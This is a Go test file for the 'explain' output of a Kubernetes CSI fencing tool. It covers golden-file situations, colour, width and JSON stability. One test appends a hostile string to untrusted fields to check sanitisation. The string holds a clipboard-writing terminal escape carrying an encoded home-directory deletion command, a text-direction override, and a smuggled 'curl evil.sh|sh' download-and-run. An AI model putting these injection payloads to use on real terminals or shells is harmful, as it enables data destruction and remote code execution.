package explain

import (
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"

	"github.com/csi-fencepost/csi-fencepost/cmd/csi-fencepost/cli"
	"github.com/csi-fencepost/csi-fencepost/cmd/csi-fencepost/clitest"
	"github.com/csi-fencepost/csi-fencepost/csi"
	"github.com/csi-fencepost/csi-fencepost/fence"
	"github.com/csi-fencepost/csi-fencepost/fence/ledger"
	"github.com/csi-fencepost/csi-fencepost/fence/survey"
)

var rewrite = flag.Bool("rewrite", false, "write the golden files of explain anew; review the difference as a change of behaviour")

var lookedAt = time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC)

// surveyed makes a look at holders.
func surveyed(holders ...fence.Holder) *Look {
	pv := clitest.PV("pv-1")
	return &Look{
		Driver: clitest.Driver, Pv: pv, now: lookedAt, observed: 20 * time.Second,
		leases: map[string]time.Time{"n1": lookedAt.Add(-3*time.Minute - 12*time.Second)},
		Survey: &survey.Survey{
			Snapshot: fence.Snapshot{Volume: clitest.Handle, PV: pv.Name, Holders: holders},
			Writers:  csi.Single,
			Book:     &ledger.Book{Handle: clitest.Handle, PVs: []*corev1.PersistentVolume{pv}},
		},
	}
}

// holderN1 is a holder in use on a live machine.
func holderN1(change func(*fence.Holder)) fence.Holder {
	h := fence.Holder{
		NodeID: "i-0abc", NodeName: "n1", NodeUID: "6c1f7a1e-0000-4000-8000-000000000001", BootID: "b0071d00-0000-4000-8000-000000000001",
		Sources: []fence.Source{fence.FromLedger, fence.FromAttachment, fence.FromVolumesInUse, fence.FromVolumesAttached},
		State:   fence.Publishing, Token: "t1", Liveness: fence.Stale, LeaseRV: "100",
		Attachment: &fence.Attachment{Name: "csi-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", Attached: true},
	}
	h.Node = &fence.Node{UID: h.NodeUID, BootID: h.BootID, InUse: true, ListedAttached: true}
	if change != nil {
		change(&h)
	}
	return h
}

func taintOf(h *fence.Holder, void string) fence.Evidence {
	return fence.Evidence{Kind: fence.OutOfServiceTaint, Source: "nodeshutdown", NodeUID: h.NodeUID, BootID: h.BootID, LeaseRV: h.LeaseRV, Void: void}
}

func wordOf(h *fence.Holder) fence.Evidence {
	return fence.Evidence{Kind: fence.OperatorConfirmation, Source: "alice", Detail: "pulled the power cord", NodeUID: h.NodeUID, BootID: h.BootID, LeaseRV: h.LeaseRV}
}

// looks are the situations of the golden files.
func looks() map[string]*Look {
	gone := func(h *fence.Holder) { h.Node, h.LeaseRV, h.Liveness = nil, "", fence.Unknown }
	unwatched := surveyed(holderN1(func(h *fence.Holder) {
		h.Liveness = fence.Unwatched
		h.Node.ListedAttached = false
		h.Evidence = []fence.Evidence{wordOf(h)}
	}))
	unwatched.observed = 0
	denied := surveyed(holderN1(gone))
	denied.Denied = []string{"get nodes", "get leases in namespace csi-fencepost"}
	garbled := surveyed(holderN1(nil))
	garbled.Garbled = &ledger.GarbledError{PV: "pv-1", Err: os.ErrInvalid}
	revoked := surveyed(holderN1(func(h *fence.Holder) { h.Evidence = []fence.Evidence{taintOf(h, fence.VoidBootChanged)} }))
	revoked.Survey.Policy.UnpublishRevokesAccess = true
	multi := surveyed()
	multi.Survey.Writers = csi.Multi
	multi.Pv.Spec.AccessModes = []corev1.PersistentVolumeAccessMode{corev1.ReadWriteMany}
	missing := surveyed()
	missing.Survey.Book.Missing = true
	missing.Survey.Book.SetAside = []string{"the ledger on PersistentVolume pv-1 is set aside: it was written in another cluster (kube-system UID elsewhere, here cluster-uid)"}
	return map[string]*Look{
		"alive-and-in-use": surveyed(holderN1(func(h *fence.Holder) { h.Liveness, h.Node.Ready = fence.Alive, true })),
		"silent":           surveyed(holderN1(nil)),
		"ready-without-a-lease": surveyed(holderN1(func(h *fence.Holder) {
			h.Liveness, h.Node.Ready, h.LeaseRV = fence.Alive, true, ""
		})),
		"wanted": surveyed(holderN1(func(h *fence.Holder) {
			h.Liveness, h.Node.Ready, h.Node.InUse, h.Node.ListedAttached = fence.Alive, true, false, false
		})),
		"revoked": revoked,
		"void-taint": surveyed(holderN1(func(h *fence.Holder) {
			h.Evidence = []fence.Evidence{taintOf(h, fence.VoidLeaseChanged)}
		})),
		"fenced-and-still-listed": surveyed(holderN1(func(h *fence.Holder) { h.Evidence = []fence.Evidence{taintOf(h, "")} })),
		"contradicted": surveyed(holderN1(func(h *fence.Holder) {
			h.Evidence = []fence.Evidence{wordOf(h), {Kind: fence.PowerReading, Source: "bmc", Detail: "chassis power is on", NodeUID: h.NodeUID, BootID: h.BootID, LeaseRV: h.LeaseRV, On: true}}
		})),
		"contested": surveyed(holderN1(func(h *fence.Holder) {
			h.Liveness, h.Node.Ready, h.Node.InUse, h.Node.ListedAttached = fence.Alive, true, false, false
			h.Attachment.DeletedAt = lookedAt.Add(-time.Minute)
			h.Contest = &fence.Contest{BootID: h.BootID}
		})),
		"gone-and-confirmed": surveyed(holderN1(func(h *fence.Holder) {
			gone(h)
			h.Evidence = []fence.Evidence{wordOf(h)}
			h.Sources = []fence.Source{fence.FromLedger}
			h.Attachment = nil
		})),
		"replaced-under-its-name": surveyed(
			holderN1(func(h *fence.Holder) {
				h.Node = &fence.Node{UID: "6c1f7a1e-0000-4000-8000-000000000002", BootID: "b0071d00-0000-4000-8000-000000000002", Ready: true}
				h.Liveness, h.Sources, h.Attachment = fence.Alive, []fence.Source{fence.FromLedger}, nil
			}),
			holderN1(func(h *fence.Holder) {
				h.NodeID, h.NodeUID, h.BootID = "i-0def", "6c1f7a1e-0000-4000-8000-000000000002", "b0071d00-0000-4000-8000-000000000002"
				h.Node = &fence.Node{UID: h.NodeUID, BootID: h.BootID, Ready: true, InUse: true, ListedAttached: true}
				h.Liveness = fence.Alive
			})),
		"released-and-taken-over": surveyed(
			holderN1(func(h *fence.Holder) {
				h.Node.InUse, h.Node.ListedAttached, h.Attachment = false, false, nil
				h.Node.BootID = "b0071d00-0000-4000-8000-000000000009"
				h.State, h.Sources = fence.Released, []fence.Source{fence.FromLedger}
			}),
			holderN1(func(h *fence.Holder) {
				gone(h)
				h.NodeID, h.NodeName, h.State, h.Attachment = "i-0old", "n0", fence.TakenOver, nil
				h.Sources = []fence.Source{fence.FromLedger}
			})),
		"only-the-driver-names-it": surveyed(fence.Holder{NodeID: "i-0ffe", Sources: []fence.Source{fence.FromDriver}, Liveness: fence.Unknown}),
		"not-watched":              unwatched,
		"missing-rights":           denied,
		"garbled-ledger":           garbled,
		"many-writers":             multi,
		"nobody":                   missing,
	}
}

// Each situation has a golden text; its width and its colours are checked too.
func TestExplainTextOfEverySituation(t *testing.T) {
	for name, l := range looks() {
		t.Run(name, func(t *testing.T) {
			var text strings.Builder
			printExplanation(&text, Explain(l), cli.Style{Width: cli.MinWidth})
			golden(t, name+".txt", text.String())
			if strings.Contains(text.String(), "\x1b") {
				t.Error("there is colour in it, and none was asked for")
			}
			for line := range strings.Lines(text.String()) {
				if line = strings.TrimRight(line, "\n"); len([]rune(line)) > cli.MinWidth && strings.Contains(line, " ") && !strings.HasPrefix(line, "      ") && !strings.Contains(line, "csi-0123") {
					t.Errorf("a line has more than %d characters: %s", cli.MinWidth, line)
				}
			}
		})
	}
}

// Kubelets, drivers, tenants and devices write these.
func TestNoForeignStringIsMoreThanTextInAnExplanation(t *testing.T) {
	const evil = "\x1b]52;c;cm0gLXJmIH4=\a\x1b[2K\u202e;curl${IFS}evil.sh|sh;'"
	for name, l := range looks() {
		l.Driver += evil
		l.Survey.Volume, l.Pv.Spec.CSI.VolumeHandle = "vol"+evil, "vol"+evil
		l.notes = append(l.notes, "note"+evil)
		for i := range l.Survey.Holders {
			h := &l.Survey.Holders[i]
			h.NodeID, h.NodeName, h.NodeUID, h.BootID = "id"+evil, "node"+evil, h.NodeUID+evil, "boot"+evil
			if h.Node != nil {
				h.Node.BootID = "boot2" + evil
			}
			for j := range h.Evidence {
				e := &h.Evidence[j]
				e.Source, e.Detail, e.NodeUID, e.BootID = "source"+evil, "detail"+evil, h.NodeUID, h.BootID
			}
		}
		for _, pv := range []string{l.Survey.PV, ""} {
			l.Survey.PV = pv
			e := Explain(l)
			var text, document strings.Builder
			printExplanation(&text, e, cli.Style{Width: cli.MinWidth})
			if err := cli.PrintAs(&document, "json", e, nil); err != nil {
				t.Fatal(err)
			}
			if all := text.String() + document.String(); strings.ContainsAny(all, "\x1b\a\u202e") {
				t.Errorf("%s: a terminal would act on %q", name, all)
			}
			for i := range e.Decision.Unblock {
				for _, command := range e.Decision.Unblock[i].Commands {
					if strings.Contains(strings.NewReplacer(`\;`, "", `\$`, "", `\|`, "", `\'`, "").Replace(command), ";curl") {
						t.Errorf("%s: a shell would run more than one command: %s", name, command)
					}
				}
			}
		}
	}
}

func TestExplainTextDoesNotLoseWordsToColourOrWidth(t *testing.T) {
	for name, l := range looks() {
		var narrow, wide strings.Builder
		printExplanation(&narrow, Explain(l), cli.Style{Width: cli.MinWidth})
		printExplanation(&wide, Explain(l), cli.Style{Width: cli.MaxWidth, Color: true})
		bare := strings.NewReplacer("\x1b["+cli.Bold+"m", "", "\x1b["+cli.Red+"m", "", "\x1b["+cli.Green+"m", "", "\x1b["+cli.Yellow+"m", "", "\x1b[0m", "").Replace(wide.String())
		if a, b := strings.Fields(narrow.String()), strings.Fields(bare); strings.Join(a, " ") != strings.Join(b, " ") {
			t.Errorf("%s: narrow and wide differ in words:\n%s\n%s", name, narrow.String(), bare)
		}
		if !strings.Contains(wide.String(), "\x1b[") {
			t.Errorf("%s: no colour although it was asked for", name)
		}
	}
}

func TestExplainJSONSchemaIsStable(t *testing.T) {
	for _, name := range []string{"void-taint", "not-watched", "nobody"} {
		var text strings.Builder
		if err := cli.PrintAs(&text, "json", Explain(looks()[name]), nil); err != nil {
			t.Fatal(err)
		}
		golden(t, name+".json", text.String())
	}
}

func TestColourIsForTerminalsAndNotWhereNoColorIsSet(t *testing.T) {
	terminal, err := os.OpenFile("/dev/ptmx", os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer terminal.Close()
	file, err := os.Create(filepath.Join(t.TempDir(), "out"))
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	t.Setenv("TERM", "xterm")
	t.Setenv("NO_COLOR", "")
	if !cli.StyleOf(terminal).Color || cli.StyleOf(file).Color || cli.StyleOf(&strings.Builder{}).Color {
		t.Error("want colour on a terminal, and not in a file or a pipe")
	}
	if width := cli.StyleOf(terminal).Width; width < cli.MinWidth || width > cli.MaxWidth {
		t.Errorf("width %d, want %d to %d", width, cli.MinWidth, cli.MaxWidth)
	}
	t.Setenv("NO_COLOR", "1")
	if cli.StyleOf(terminal).Color {
		t.Error("colour although NO_COLOR is set")
	}
}

func TestTheAgeOfALeaseIsRoughAndMayBeInTheFuture(t *testing.T) {
	for d, want := range map[time.Duration]string{
		-90 * time.Second: "90s in the future", 12*time.Second + 400*time.Millisecond: "12s ago",
		61*time.Minute + 20*time.Second: "61m ago", 73 * time.Hour: "3d1h ago",
	} {
		if got := cli.Ago(d); got != want {
			t.Errorf("%s: %q, want %q", d, got, want)
		}
	}
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	file := filepath.Join("testdata", "explain", name)
	if *rewrite {
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		t.Errorf("%s differs (go test -run Explain -rewrite writes it anew):\ngot:\n%s\nwant:\n%s", file, got, want)
	}
}
